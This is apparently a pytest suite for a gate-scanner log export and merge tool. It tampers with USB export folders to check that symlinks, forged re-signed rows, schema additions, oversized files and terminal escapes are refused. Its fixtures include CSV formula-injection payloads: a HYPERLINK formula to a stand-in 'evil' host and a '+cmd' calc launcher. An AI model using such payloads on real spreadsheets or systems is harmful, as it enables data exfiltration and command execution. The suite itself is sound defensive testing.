"""Attacks on exports, run as an attacker would: real export folders on a
"stick", changed with the tools an attacker has (a file manager, sqlite3, a
stolen device key), then checked and merged through the ``scanner`` command
a manager types. Each asserts the attack fails AND changes nothing: the
merged database and the gate's own files stay as they were."""

from __future__ import annotations

import json
import os
import shutil
import sqlite3
import threading
from pathlib import Path

import pytest

from scanner.errors import ScanLogError
from scanner.keyfiles import load_age_identities
from scanner.record.log import ScanLog
from scanner.transfer.export import export_log, verify_export
from scanner.transfer.usb import handle_stick

from .exporting import (
    EVENT,
    NOW,
    as_before_the_summary_was_sealed,
    count,
    dump,
    execute,
    export,
    fill,
    make_gate,
    make_manager,
    manifest_body,
    resign,
    run,
    scan,
    seal,
    summary_of,
)


@pytest.fixture
def manager(tmp_path):
    return make_manager(tmp_path / "manager")


@pytest.fixture
def door1(tmp_path, organizer_key, manager):
    return make_gate(
        tmp_path / "gates", "door-1", organizer_key, recipients=[manager.recipient], rows=12
    )


@pytest.fixture
def stick(tmp_path):
    folder = tmp_path / "stick"
    folder.mkdir()
    return folder


@pytest.fixture
def plain(door1, stick):
    """door-1's log exported in the clear, as --plaintext does from a shell."""
    return export(door1, stick, "--plaintext")


@pytest.fixture
def known(tmp_path, door1):
    """The manager's --known-gates: the box's own device.pub, labelled 'device'."""
    folder = tmp_path / "known-gates"
    folder.mkdir()
    shutil.copy(door1.folder / "device.pub", folder / "door-1.pub")
    return folder


def merged_holders(db: Path) -> list[str]:
    conn = sqlite3.connect(db)
    try:
        return [r[0] for r in conn.execute("SELECT holder FROM scans ORDER BY gate, seq")]
    finally:
        conn.close()


# -- one reader: names, links, sizes -----------------------------------------


def test_a_folder_named_with_a_hash_cannot_smuggle_in_a_sibling_file(tmp_path, plain):
    # SQLite once read 'file:.../T#/scans.db?mode=ro' as the file '.../T': a
    # sibling the attacker supplies, with forged rows and a view
    renamed = plain.with_name(plain.name + "#")
    plain.rename(renamed)
    shutil.copy(renamed / "scans.db", plain)  # the sibling file named like the folder
    execute(plain, "UPDATE scans SET holder = 'Mallory'; CREATE VIEW v AS SELECT 1;")
    result = run("logs", "verify", renamed)
    assert result.exit_code == 0, result.output
    assert "intact, 12 scans" in result.output
    out = tmp_path / "all.db"
    assert run("logs", "merge", renamed, "-o", out).exit_code == 0
    assert merged_holders(out) == [f"Guest {i}" for i in range(12)]


@pytest.mark.parametrize("name", ["manifest.json", "scans.db"])
def test_a_symlinked_file_in_an_export_is_refused(tmp_path, plain, name):
    # the link points at the very same genuine bytes: links are refused anyway
    elsewhere = tmp_path / f"elsewhere-{name}"
    shutil.move(plain / name, elsewhere)
    (plain / name).symlink_to(elsewhere)
    result = run("logs", "verify", plain)
    assert result.exit_code == 1 and "a link, not a file" in result.output
    out = tmp_path / "all.db"
    assert run("logs", "merge", plain, "-o", out).exit_code == 1
    assert count(out) == 0


def test_an_export_folder_that_is_a_link_is_refused(tmp_path, plain):
    link = tmp_path / "link"
    link.symlink_to(plain)
    result = run("logs", "verify", link)
    assert result.exit_code == 1 and "a link, not a folder" in result.output


def test_a_fifo_instead_of_a_file_is_refused_without_hanging(plain):
    (plain / "scans.csv").unlink()
    os.mkfifo(plain / "scans.csv")
    result = run("logs", "verify", plain)
    assert result.exit_code == 1 and "scans.csv: not a regular file" in result.output


def test_an_oversized_database_is_refused_before_it_is_read(tmp_path, plain):
    with open(plain / "scans.db", "r+b") as f:  # sparse: 2 GiB + 1 byte, costs nothing
        f.truncate(2 * 1024**3 + 1)
    result = run("logs", "verify", plain)
    assert result.exit_code == 1
    assert "scans.db: 2147483649 bytes; at most 2147483648 are accepted" in result.output
    out = tmp_path / "all.db"
    assert run("logs", "merge", plain, "-o", out).exit_code == 1 and count(out) == 0


def test_an_oversized_manifest_is_refused(plain):
    (plain / "manifest.json").write_bytes(b" " * (1024 * 1024 + 1))
    result = run("logs", "verify", plain)
    assert result.exit_code == 1 and "at most 1048576" in result.output


@pytest.mark.parametrize(
    "manifest",
    [
        b"[" * 100_000 + b"]" * 100_000,
        b'{"format": "backstage-signed-v1", "kind": "\\ud800"}',
        b"\xff\xfe not even text",
    ],
    ids=["deeply-nested", "lone-surrogate", "not-utf8"],
)
def test_a_malformed_manifest_is_refused_and_the_other_exports_still_count(
    tmp_path, door1, stick, plain, manifest
):
    fill(door1.db, "door-1", 3, 100)
    good = export(door1, stick, "--plaintext")
    (plain / "manifest.json").write_bytes(manifest)
    result = run("logs", "verify", stick)
    assert result.exit_code == 1
    assert "Traceback" not in result.output
    assert "manifest: the file is not a signed document" in result.output
    assert f"{good}: gate door-1: intact, 15 scans" in result.output
    out = tmp_path / "all.db"
    result = run("logs", "merge", stick, "-o", out)
    assert result.exit_code == 1 and "merged 1 export (15 new scans" in result.output
    assert count(out) == 15


def test_names_from_a_stick_cannot_write_to_the_managers_terminal(tmp_path, plain):
    evil = plain.with_name("\x1b[2J\x1b]0;pwned\x07")
    plain.rename(evil)
    result = run("logs", "verify", evil.parent)
    assert "\x1b" not in result.output and "\\x1b[2J" in result.output


# -- what is inside: schema and rows ------------------------------------------


@pytest.mark.parametrize(
    "sql",
    [
        "CREATE VIEW everyone AS SELECT * FROM scans",
        "CREATE TRIGGER t AFTER INSERT ON scans BEGIN DELETE FROM scans; END",
        "CREATE TABLE notes (x TEXT)",
        "CREATE INDEX scans_holder ON scans (holder)",
        "ALTER TABLE scans ADD COLUMN note TEXT",
    ],
    ids=["view", "trigger", "extra-table", "extra-index", "extra-column"],
)
def test_a_database_with_anything_more_is_refused_even_when_signed_again(
    tmp_path, door1, plain, sql
):
    # the attacker holds the device key, so hashes and signature are good:
    # only the schema check can tell
    execute(plain / "scans.db", sql)
    resign(plain, door1.device_key)
    result = run("logs", "verify", plain)
    assert result.exit_code == 1 and "not a scan log made by this version" in result.output
    out = tmp_path / "all.db"
    assert run("logs", "merge", plain, "-o", out).exit_code == 1
    assert count(out) == 0


def as_the_first_version_made_it(db: Path, *, leave_out: str = "") -> None:
    """Rewrite an export's scans.db as a box still on the first version wrote it
    (its scans keyed by id, two lookup indexes, an entries table)."""
    from scanner.record.schema import SCAN_COLUMNS, TABLES_SQL

    columns = ", ".join(SCAN_COLUMNS)
    conn = sqlite3.connect(db)
    conn.execute("ALTER TABLE scans RENAME TO scans_now")
    for sql in TABLES_SQL:
        if sql.startswith(("CREATE TABLE scans", "CREATE INDEX", "CREATE TABLE entries")):
            if not leave_out or leave_out not in sql:
                conn.execute(sql)
    conn.execute(f"INSERT INTO scans ({columns}) SELECT {columns} FROM scans_now")
    conn.execute("DROP TABLE scans_now")
    conn.execute("DELETE FROM _sqlite_migrations WHERE name != 'm001_tables'")
    conn.commit()
    conn.execute("VACUUM")
    conn.close()


def test_an_export_from_a_gate_not_yet_updated_still_verifies_and_merges(
    tmp_path, door1, plain, known
):
    """Boxes are updated one at a time: a stick from a box on the first version
    (its log laid out as that version laid it out) is read like any other."""
    from scanner.record.schema import expected_schema

    as_the_first_version_made_it(plain / "scans.db")
    conn = sqlite3.connect(plain / "scans.db")
    assert frozenset(conn.execute("SELECT type, name, tbl_name, sql FROM sqlite_master")) == (
        expected_schema("m001_tables")
    )
    conn.close()
    resign(plain, door1.device_key)  # as that box signed it
    assert run("logs", "verify", plain).exit_code == 0
    out = tmp_path / "all.db"
    result = run("logs", "merge", plain, "-o", out, "--known-gates", known)
    assert result.exit_code == 0, result.output
    assert count(out) == 12


def test_the_old_layout_with_one_index_missing_is_still_refused(tmp_path, door1, plain):
    as_the_first_version_made_it(plain / "scans.db", leave_out="scans_ts")
    resign(plain, door1.device_key)
    result = run("logs", "verify", plain)
    assert result.exit_code == 1 and "not a scan log made by this version" in result.output


def behind_sqlites_back(db: Path, loosen: list[tuple[str, str]], sql: str) -> None:
    """Run ``sql`` on a table whose rules were loosened for the moment
    (writable_schema), then put the rules back: rows no check ever saw."""
    conn = sqlite3.connect(db)
    strict = conn.execute("SELECT sql FROM sqlite_master WHERE name = 'scans'").fetchone()[0]
    conn.execute("PRAGMA writable_schema = ON")
    loose = strict
    for rule, replacement in loosen:
        assert rule in loose
        loose = loose.replace(rule, replacement)
    conn.execute("UPDATE sqlite_master SET sql = ? WHERE name = 'scans'", [loose])
    conn.commit()
    conn.close()
    execute(db, sql)
    conn = sqlite3.connect(db)
    conn.execute("PRAGMA writable_schema = ON")
    conn.execute("UPDATE sqlite_master SET sql = ? WHERE name = 'scans'", [strict])
    conn.commit()
    conn.close()


@pytest.mark.parametrize(
    ("loosen", "sql"),
    [
        (
            [("CHECK (decision IN ('granted', 'denied'))", "")],
            "UPDATE scans SET decision = 'waved-through' WHERE seq = 3",
        ),
        (  # a text serial: a formula in a spreadsheet (finding 4)
            [(") STRICT", ")"), ("CHECK (serial BETWEEN 0 AND 4294967295)", "")],
            "UPDATE scans SET serial = '=HYPERLINK(\"http://evil\")' WHERE seq = 3",
        ),
    ],
    ids=["check", "strict-type"],
)
def test_a_row_that_breaks_the_logs_rules_is_refused_even_when_signed_again(
    tmp_path, door1, plain, loosen, sql
):
    behind_sqlites_back(plain / "scans.db", loosen, sql)
    resign(plain, door1.device_key)
    result = run("logs", "verify", plain)
    assert result.exit_code == 1 and "BROKEN" in result.output, result.output
    out = tmp_path / "all.db"
    assert run("logs", "merge", plain, "-o", out).exit_code == 1
    assert count(out) == 0


def test_a_row_of_another_gate_inside_an_export_is_found(tmp_path, door1, stick):
    # door-1's real key signs it, the chain is whole: only the row check sees it
    fill(door1.db, "door-1", 1, 50, gate="door-2")
    folder = export(door1, stick, "--plaintext")
    result = run("logs", "verify", folder)
    assert result.exit_code == 1
    assert "gate door-1, row 13: a row of gate door-2, in gate door-1's export" in result.output
    out = tmp_path / "all.db"
    assert run("logs", "merge", folder, "-o", out).exit_code == 1 and count(out) == 0


def test_a_row_of_an_event_the_manifest_does_not_list_is_found(tmp_path, door1, plain):
    envelope = json.loads((plain / "manifest.json").read_text())
    assert json.loads(envelope["signed"])["body"]["events"] == [EVENT]
    resign(plain, door1.device_key, events=["another-show"])
    result = run("logs", "verify", plain)
    assert result.exit_code == 1
    assert f"row 1: event {EVENT} is not one the manifest lists" in result.output


def test_a_gate_event_cut_off_the_end_is_found(door1, plain):
    execute(plain / "scans.db", "DELETE FROM events WHERE seq = (SELECT max(seq) FROM events)")
    resign(plain, door1.device_key)
    result = run("logs", "verify", plain)
    assert result.exit_code == 1
    assert "gate door-1: 0 rows of gate events, the manifest says 1" in result.output


def test_an_edited_gate_event_is_found(door1, plain):
    execute(plain / "scans.db", "UPDATE events SET detail = '{}'")
    resign(plain, door1.device_key)
    result = run("logs", "verify", plain)
    assert "gate door-1, gate event row 1: was altered" in result.output


# -- who signed it -------------------------------------------------------------


def test_a_boxs_own_device_pub_in_known_gates_matches_its_exports(known, plain):
    assert (known / "door-1.pub").read_text().split()[2] == "device"  # as the box holds it
    result = run("logs", "verify", plain, "--known-gates", known)
    assert result.exit_code == 0, result.output
    assert "signed by a known gate" in result.output and "known as device" in result.output


def test_the_copy_of_device_pub_inside_an_export_matches_too(tmp_path, plain):
    folder = tmp_path / "from-exports"
    folder.mkdir()
    shutil.copy(plain / "device.pub", folder / "door-1.pub")
    result = run("logs", "verify", plain, "--known-gates", folder)
    assert result.exit_code == 0 and "known as door-1" in result.output


def test_an_unknown_gate_is_refused_unless_allowed_and_then_marked(
    tmp_path, organizer_key, manager, known, plain, stick
):
    stranger = make_gate(
        tmp_path / "gates", "door-9", organizer_key, recipients=[manager.recipient], rows=4
    )
    theirs = export(stranger, stick, "--plaintext")
    result = run("logs", "verify", theirs, "--known-gates", known)
    assert result.exit_code == 1 and "NOT CHECKED: signed by device key" in result.output
    assert "which is not in --known-gates: nothing else in it was read" in result.output
    out = tmp_path / "all.db"
    result = run("logs", "merge", stick, "-o", out, "--known-gates", known)
    assert result.exit_code == 1
    assert "NOT MERGED" in result.output and "which is not in --known-gates" in result.output
    assert count(out) == 12  # door-1's only
    result = run("logs", "merge", stick, "-o", out, "--known-gates", known, "--allow-unknown-gates")
    assert result.exit_code == 0, result.output
    assert "MARKED as from an unknown gate" in result.output
    conn = sqlite3.connect(out)
    assert dict(conn.execute("SELECT gate, known FROM gates")) == {"door-1": 1, "door-9": 0}
    assert count(out) == 16


def test_a_second_box_claiming_a_gates_name_is_refused(tmp_path, organizer_key, manager, plain):
    out = tmp_path / "all.db"
    assert run("logs", "merge", plain, "-o", out).exit_code == 0
    before = dump(out)
    impostor = make_gate(
        tmp_path / "elsewhere", "door-1", organizer_key, recipients=[manager.recipient], rows=3
    )
    stick2 = tmp_path / "stick2"
    folder = export(impostor, stick2, "--plaintext")
    result = run("logs", "merge", folder, "-o", out)
    assert result.exit_code == 1 and "another box claims its name" in result.output
    assert dump(out) == before


def test_known_gates_labelled_with_a_gate_id_name_an_impostor(
    tmp_path, organizer_key, manager, plain
):
    known = tmp_path / "from-exports"
    known.mkdir()
    shutil.copy(plain / "device.pub", known / "door-1.pub")  # labelled door-1
    impostor = make_gate(
        tmp_path / "elsewhere", "door-1", organizer_key, recipients=[manager.recipient], rows=3
    )
    folder = export(impostor, tmp_path / "stick2", "--plaintext")
    result = run("logs", "verify", folder, "--known-gates", known)
    assert result.exit_code == 1 and "another box claims its name" in result.output


def test_merging_three_exports_with_known_gates_works(tmp_path, organizer_key, manager, stick):
    known = tmp_path / "known"
    known.mkdir()
    for n in (1, 2, 3):
        gate = make_gate(
            tmp_path / "gates", f"door-{n}", organizer_key, recipients=[manager.recipient], rows=5
        )
        shutil.copy(gate.folder / "device.pub", known / f"door-{n}.pub")
        export(gate, stick, "--plaintext")
    out = tmp_path / "all.db"
    result = run("logs", "merge", stick, "-o", out, "--known-gates", known)
    assert result.exit_code == 0, result.output
    assert "merged 3 exports (15 new scans, 3 new gate events)" in result.output
    assert count(out) == 15


def test_a_known_gates_file_with_a_wrong_key_id_is_a_usage_error(tmp_path, plain):
    bad = tmp_path / "bad.pub"
    words = (plain / "device.pub").read_text().split()
    bad.write_text(f"{words[0]} 0000000000000000 door-1\n")
    result = run("logs", "verify", plain, "--known-gates", bad)
    assert result.exit_code == 2 and "does not fit the key" in result.output


# -- conflicts -----------------------------------------------------------------


def test_a_forged_row_reusing_a_genuine_id_is_a_conflict_and_the_real_row_stays(
    tmp_path, organizer_key, manager, door1, plain
):
    out = tmp_path / "all.db"
    assert run("logs", "merge", plain, "-o", out).exit_code == 0
    conn = sqlite3.connect(out)
    genuine_id, genuine_holder = conn.execute(
        "SELECT id, holder FROM scans WHERE seq = 5"
    ).fetchone()
    conn.close()
    # a box of the attacker's own writes a row with that id, and signs its export
    rogue = make_gate(tmp_path / "rogue", "door-9", organizer_key, recipients=[manager.recipient])
    with ScanLog(rogue.db, gate="door-9") as log:
        log.record_scan({"id": genuine_id, "ts": NOW.isoformat(), "decision": "granted",
                         "reason": "ok", "holder": "Mallory", "serial": 5, "event": EVENT})
    forged = export(rogue, tmp_path / "stick2", "--plaintext")
    before = dump(out)
    result = run("logs", "merge", forged, "-o", out)
    assert result.exit_code == 1
    assert "1 conflict: scans row 1 (id " in result.output
    assert "already merged from gate door-1 (row 5) with other contents" in result.output
    after = dump(out)
    assert after["scans"] == before["scans"] and after["gates"] == before["gates"]
    conn = sqlite3.connect(out)
    assert conn.execute("SELECT holder FROM scans WHERE id = ?", [genuine_id]).fetchone() == (
        genuine_holder,
    )
    assert conn.execute(
        "SELECT merged_gate, merged_seq, export_gate, export_seq FROM conflicts"
    ).fetchall() == [("door-1", 5, "door-9", 1)]
    conn.close()
    # asking again records nothing twice
    assert run("logs", "merge", forged, "-o", out).exit_code == 1
    assert count(out, "conflicts") == 1


# -- encryption: a lost stick leaks no names ---------------------------------------


def test_an_encrypted_export_is_checked_and_merged_with_the_managers_identity(
    tmp_path, door1, stick, manager
):
    folder = export(door1, stick)
    names = sorted(p.name for p in folder.iterdir())
    assert names == [
        "device.pub", "manifest.json", "scans.csv.age", "scans.db.age", "summary.json.age"
    ]  # fmt: skip
    for path in folder.iterdir():  # nothing on the stick names a holder
        assert b"Guest" not in path.read_bytes()
    result = run("logs", "verify", folder)
    assert result.exit_code == 1
    assert "rows could NOT be checked" in result.output and "--identity" in result.output
    out = tmp_path / "all.db"
    result = run("logs", "merge", folder, "-o", out)
    assert result.exit_code == 1 and "not merged" in result.output and count(out) == 0
    result = run("logs", "verify", folder, "--identity", manager.identity)
    assert result.exit_code == 0
    assert (
        "intact, 12 scans (2026-12-05T19:00:00Z .. 2026-12-05T19:00:11Z) and 1 gate event, "
        "encrypted" in result.output
    )
    result = run("logs", "merge", folder, "-o", out, "--identity", manager.identity)
    assert result.exit_code == 0, result.output
    assert merged_holders(out) == [f"Guest {i}" for i in range(12)]


def test_an_export_for_another_manager_cannot_be_read_with_my_identity(
    tmp_path, door1, stick
):
    other = make_manager(tmp_path / "other-manager")
    folder = export(door1, stick)
    result = run("logs", "verify", folder, "--identity", other.identity)
    assert result.exit_code == 1 and "cannot be decrypted with the identity given" in result.output


def test_a_manager_identity_readable_by_others_is_refused(tmp_path, manager, door1, stick):
    folder = export(door1, stick)
    manager.identity.chmod(0o644)
    result = run("logs", "verify", folder, "--identity", manager.identity)
    assert result.exit_code == 2 and "chmod 600" in result.output


def test_a_manager_key_kept_under_a_passphrase_reads_exports_only_with_it(
    tmp_path, organizer_key, stick, monkeypatch
):
    """A copy of the manager's laptop or backup, without the passphrase, reads no name."""
    monkeypatch.setenv("SCANNER_KEY_PASSPHRASE", "a manager's long passphrase")
    result = run("keygen", "--manager", "--passphrase", "--out", tmp_path / "keys")
    assert result.exit_code == 0 and "under your passphrase" in result.output
    identity = tmp_path / "keys" / "manager.key"
    assert b"AGE-SECRET-KEY" not in identity.read_bytes()
    recipient = (tmp_path / "keys" / "manager.pub").read_text().strip()
    door = make_gate(tmp_path / "gates", "door-1", organizer_key, recipients=[recipient], rows=5)
    folder = export(door, stick)
    out = tmp_path / "all.db"
    assert run("logs", "merge", folder, "-o", out, "--identity", identity).exit_code == 0
    assert merged_holders(out) == [f"Guest {i}" for i in range(5)]

    monkeypatch.setenv("SCANNER_KEY_PASSPHRASE", "a manager's long passphrasf")
    other = tmp_path / "other.db"
    wrong = run("logs", "merge", folder, "-o", other, "--identity", identity)
    assert wrong.exit_code == 2 and "wrong passphrase" in wrong.output
    monkeypatch.delenv("SCANNER_KEY_PASSPHRASE")
    none = run("logs", "verify", folder, "--identity", identity)
    assert none.exit_code == 2 and "SCANNER_KEY_PASSPHRASE" in none.output
    assert count(other) == 0


def test_keygen_manager_makes_a_private_identity_and_its_public_key(tmp_path):
    result = run("keygen", "--manager", "--out", tmp_path / "keys")
    assert result.exit_code == 0, result.output
    key, pub = tmp_path / "keys" / "manager.key", tmp_path / "keys" / "manager.pub"
    assert oct(key.stat().st_mode & 0o777) == "0o600"
    recipient = pub.read_text().strip()
    assert recipient.startswith("age1") and f'recipients = ["{recipient}"]' in result.output
    assert len(load_age_identities(key)) == 1
    again = run("keygen", "--manager", "--out", tmp_path / "keys")
    assert again.exit_code == 1 and "already exists" in again.output


def test_a_stick_gets_nothing_when_the_policy_names_no_manager_key(
    tmp_path, organizer_key, stick
):
    gate = make_gate(tmp_path / "gates", "door-1", organizer_key, recipients=[], rows=4)
    report = handle_stick(gate.config(), stick)
    assert not report.ok
    assert "names no manager key" in report.lines[0] and "--plaintext" in report.lines[0]
    assert list(stick.iterdir()) == []
    with ScanLog(gate.db, gate="door-1") as log:
        (refusal,) = [e for e in log.events() if e["kind"] == "export"]
    assert json.loads(refusal["detail"])["ok"] is False


def test_the_csv_defuses_every_formula_a_holder_name_could_hide(tmp_path, door1, stick, manager):
    names = ['=HYPERLINK("http://evil/"&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-1+1"]
    for i, holder in enumerate(names):
        fill(door1.db, "door-1", 1, 200 + i, holder=holder)
    for folder in (export(door1, stick, "--plaintext"), export(door1, stick)):
        if (folder / "scans.csv").exists():
            text = (folder / "scans.csv").read_bytes()
        else:
            from scanner.transfer.export import decrypt

            identities = load_age_identities(manager.identity)
            text = decrypt((folder / "scans.csv.age").read_bytes(), identities, "scans.csv.age")
        import csv
        import io

        rows = list(csv.DictReader(io.StringIO(text.decode())))
        cells = [row["holder"] for row in rows[-4:]]
        assert cells == ["'" + n for n in names]


# -- a lost stick tells no counts or times either --------------------------------

FIRST_SCAN, LAST_SCAN = "2026-12-05T19:00:00Z", "2026-12-05T19:00:11Z"  # door1's 12 scans
SUMMARY_FIELDS = {"rows", "first_ts", "last_ts", "chain_head", "events_rows", "events_head",
                  "events"}  # fmt: skip


def last_hash(db: Path) -> str:
    conn = sqlite3.connect(db)
    try:
        return str(conn.execute("SELECT hash FROM scans ORDER BY seq DESC LIMIT 1").fetchone()[0])
    finally:
        conn.close()


def test_a_finder_of_an_encrypted_export_learns_no_counts_or_times(door1, stick):
    folder = export(door1, stick)
    body = manifest_body(folder)  # signed, in the clear: what a finder reads
    assert body["sealed"] == "summary.json.age" and "summary.json.age" in body["files"]
    assert not SUMMARY_FIELDS & set(body)
    assert all(set(entry) == {"sha256", "bytes"} for entry in body["files"].values())
    head = last_hash(door1.db).encode()
    for path in folder.iterdir():  # no file on the stick gives a scan time or a chain head
        data = path.read_bytes()
        assert FIRST_SCAN.encode() not in data and LAST_SCAN.encode() not in data, path.name
        assert head not in data, path.name
    result = run("logs", "verify", folder)  # without the manager's key
    assert result.exit_code == 1
    assert "its counts and times are sealed" in result.output
    assert "12 scans" not in result.output and FIRST_SCAN not in result.output
    assert "None" not in result.output and "Traceback" not in result.output


def test_the_manager_with_the_key_gets_the_sealed_counts_and_times_checked_and_merged(
    tmp_path, door1, stick, manager
):
    folder = export(door1, stick)
    result = run("logs", "verify", folder, "--identity", manager.identity)
    assert result.exit_code == 0, result.output
    assert f"intact, 12 scans ({FIRST_SCAN} .. {LAST_SCAN}) and 1 gate event" in result.output
    out = tmp_path / "all.db"
    result = run("logs", "merge", folder, "-o", out, "--identity", manager.identity)
    assert result.exit_code == 0, result.output
    conn = sqlite3.connect(out)
    recorded = conn.execute(
        "SELECT rows, events_rows, first_ts, last_ts, head_hash, events, encrypted FROM exports"
    ).fetchall()
    conn.close()
    assert recorded == [(12, 1, FIRST_SCAN, LAST_SCAN, last_hash(door1.db), f'["{EVENT}"]', 1)]


def test_an_older_exports_summary_of_the_same_gate_is_refused(tmp_path, door1, stick, manager):
    older = export(door1, stick)
    fill(door1.db, "door-1", 3, 100)
    newer = export(door1, stick)
    shutil.copy(older / "summary.json.age", newer / "summary.json.age")  # genuine, signed, stale
    result = run("logs", "verify", newer, "--identity", manager.identity)
    assert result.exit_code == 1
    assert "summary.json.age: changed since the gate signed the manifest" in result.output
    out = tmp_path / "all.db"
    result = run("logs", "merge", newer, "-o", out, "--identity", manager.identity)
    assert result.exit_code == 1 and count(out) == 0
    assert run("logs", "verify", older, "--identity", manager.identity).exit_code == 0


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"\x00not a summary" * 20, "summary.json.age: changed since the gate signed the manifest"),
        (b" " * (64 * 1024 + 1), "summary.json.age: 65537 bytes; at most 65536 are accepted"),
    ],
    ids=["garbage", "huge"],
)
def test_a_summary_replaced_on_the_stick_is_refused_with_a_reason(
    tmp_path, door1, stick, manager, content, reason
):
    folder = export(door1, stick)
    (folder / "summary.json.age").write_bytes(content)
    for identity in ((), ("--identity", manager.identity)):
        result = run("logs", "verify", folder, *identity)
        assert result.exit_code == 1 and reason in result.output
        assert "Traceback" not in result.output
    out = tmp_path / "all.db"
    result = run("logs", "merge", folder, "-o", out, "--identity", manager.identity)
    assert result.exit_code == 1 and reason in result.output and count(out) == 0


def _changed(**changes):
    return lambda summary: json.dumps({**summary, **changes}).encode()


def _another_database(summary):
    """The summary of a database with the same size and other contents."""
    files = json.loads(json.dumps(summary["files"]))
    files["scans.db.age"]["plaintext_sha256"] = "0" * 64
    return json.dumps({**summary, "files": files}).encode()


@pytest.mark.parametrize(
    ("make", "reason"),
    [
        (None, "summary.json.age: cannot be decrypted with the identity given"),
        (lambda s: b"rows = 12", "summary.json.age: not JSON"),
        (lambda s: b"[" * 40 + b"]" * 40, "summary.json.age: nested deeper than 4 levels"),
        (lambda s: json.dumps(s).encode() + b" " * 70_000, "at most 65536 are accepted"),
        (_changed(rows="12"), "summary.json.age: rows missing or not as this version writes it"),
        (_changed(holders=["Guest 1"]), "summary.json.age: fields no export's summary has"),
        (_changed(rows=11), "gate door-1: 12 rows of scans, the sealed summary"),
        (_changed(chain_head={"seq": 12, "hash": "0" * 64}), "do not end where the sealed"),
        (_changed(first_ts="2026-12-05T18:00:00Z"),
         f"the scans run from {FIRST_SCAN} to {LAST_SCAN}, the sealed summary"),
        (_changed(events=[EVENT, "another-show"]), "lists the events"),
        (_another_database, "scans.db.age: its contents are not what the gate signed"),
    ],
    ids=["not-age", "not-json", "deep", "huge", "wrong-type", "extra-field", "fewer-rows",
         "other-head", "other-times", "more-events", "other-database"],
)  # fmt: skip
def test_a_summary_signed_again_with_the_device_key_must_still_match_the_log(
    tmp_path, door1, stick, manager, make, reason
):
    # the attacker holds the box's key: hashes and signature are good, only
    # the summary's own checks and the rows can tell
    folder = export(door1, stick)
    if make is None:
        (folder / "summary.json.age").write_bytes(b"age-encryption.org/v1 but not really")
    else:
        seal(folder, manager.recipient, make(summary_of(folder, manager.identity)))
    resign(folder, door1.device_key)
    result = run("logs", "verify", folder, "--identity", manager.identity)
    assert result.exit_code == 1 and "BROKEN" in result.output
    assert reason in result.output and "Traceback" not in result.output
    out = tmp_path / "all.db"
    result = run("logs", "merge", folder, "-o", out, "--identity", manager.identity)
    assert result.exit_code == 1 and count(out) == 0


def test_a_sealed_manifest_that_gives_counts_in_the_clear_too_is_refused(door1, stick, manager):
    folder = export(door1, stick)
    resign(folder, door1.device_key, rows=12)
    result = run("logs", "verify", folder, "--identity", manager.identity)
    assert result.exit_code == 1
    assert "manifest: its summary is sealed, yet it gives rows in the clear" in result.output


def test_a_log_whose_summary_no_manager_would_read_is_not_put_on_the_stick(door1, stick):
    # 1200 events of 60 characters: a summary over the 64 KiB a manager reads
    with ScanLog(door1.db, gate="door-1") as log:
        for i in range(1200):
            log.record_scan(scan(100 + i, event=f"show-{i:04d}-" + "x" * 50))
    result = run("export", "--config", door1.config_file, "--to", stick)
    assert result.exit_code == 1 and "more than a manager reads (65536)" in result.output
    assert not any(stick.rglob("*.age")) and not any(stick.rglob("manifest.json"))


def test_an_encrypted_export_from_before_the_summary_was_sealed_still_verifies_and_merges(
    tmp_path, door1, stick, manager, known
):
    """Boxes are updated one at a time: an export from a box that still writes
    the summary in the clear manifest is read, and checked, as before."""
    folder = export(door1, stick)
    as_before_the_summary_was_sealed(folder, door1.device_key, manager.identity)
    body = manifest_body(folder)
    assert set(body) == SUMMARY_FIELDS | {
        "gate", "event", "exported_at", "files", "encrypted_to", "device_key", "scanner_version"
    }  # fmt: skip
    assert sorted(body["files"]) == ["device.pub", "scans.csv.age", "scans.db.age"]
    result = run("logs", "verify", folder)
    assert result.exit_code == 1 and "rows could NOT be checked" in result.output
    assert "sealed" not in result.output
    result = run("logs", "verify", folder, "--identity", manager.identity)
    assert result.exit_code == 0, result.output
    assert f"intact, 12 scans ({FIRST_SCAN} .. {LAST_SCAN}) and 1 gate event" in result.output
    out = tmp_path / "all.db"
    result = run("logs", "merge", folder, "-o", out, "--known-gates", known,
                 "--identity", manager.identity)  # fmt: skip
    assert result.exit_code == 0, result.output
    assert merged_holders(out) == [f"Guest {i}" for i in range(12)]
    # and what it says in the clear is still checked against the rows
    resign(folder, door1.device_key, rows=11)
    result = run("logs", "verify", folder, "--identity", manager.identity)
    assert result.exit_code == 1 and "12 rows of scans, the manifest says 11" in result.output


# -- exporting from a shell -----------------------------------------------------


def test_a_shell_export_without_gate_takes_the_labels_from_the_log(
    tmp_path, organizer_key, manager
):
    gate = make_gate(
        tmp_path / "gates",
        "door-7",
        organizer_key,
        recipients=[manager.recipient],
        rows=3,
        gate_id_in_config=False,
    )
    fill(gate.db, "door-7", 2, 10, event="second-show")
    stick = tmp_path / "stick"
    folder = export(gate, stick)
    assert folder.parent.name == f"{EVENT}_door-7"  # the policy's event
    check = verify_export(folder, identities=load_age_identities(manager.identity))
    assert check.complete, check.problems
    assert check.gate == "door-7" and check.events == [EVENT, "second-show"]


def test_a_shell_export_of_another_gates_log_is_refused(tmp_path, door1, stick):
    result = run("export", "--config", door1.config_file, "--gate", "door-2", "--to", stick)
    assert result.exit_code == 1
    assert "this log belongs to gate door-1, not door-2" in result.output
    assert not (stick / "scanner-logs").exists()
    with pytest.raises(ScanLogError, match="belongs to gate door-1"):
        with ScanLog(door1.db, gate="door-2") as log:
            log.db  # noqa: B018 -- opening it is the refusal


def test_a_shell_export_without_a_device_key_names_it_and_writes_nothing(
    tmp_path, door1, stick
):
    (door1.folder / "device.key").unlink()
    before = sorted(p.name for p in door1.folder.iterdir())
    result = run("export", "--config", door1.config_file, "--to", stick, "--plaintext")
    assert result.exit_code == 1
    assert f"no device key at {door1.folder / 'device.key'}" in result.output
    # nothing made but the gate's own USB lock (one export or import at a time)
    after = sorted(p.name for p in door1.folder.iterdir() if p.name != "usb.lock")
    assert after == before
    assert not (stick / "scanner-logs").exists()


def test_plaintext_from_a_shell_is_said_loudly(door1, stick):
    result = run("export", "--config", door1.config_file, "--to", stick, "--plaintext")
    assert result.exit_code == 0 and "IN THE CLEAR" in result.output


def test_a_link_on_the_stick_cannot_send_the_export_elsewhere(tmp_path, door1, stick):
    outside = tmp_path / "outside"
    outside.mkdir()
    (stick / "scanner-logs").symlink_to(outside)
    result = run("export", "--config", door1.config_file, "--to", stick)
    assert result.exit_code == 1 and "a link or a file, not a folder" in result.output
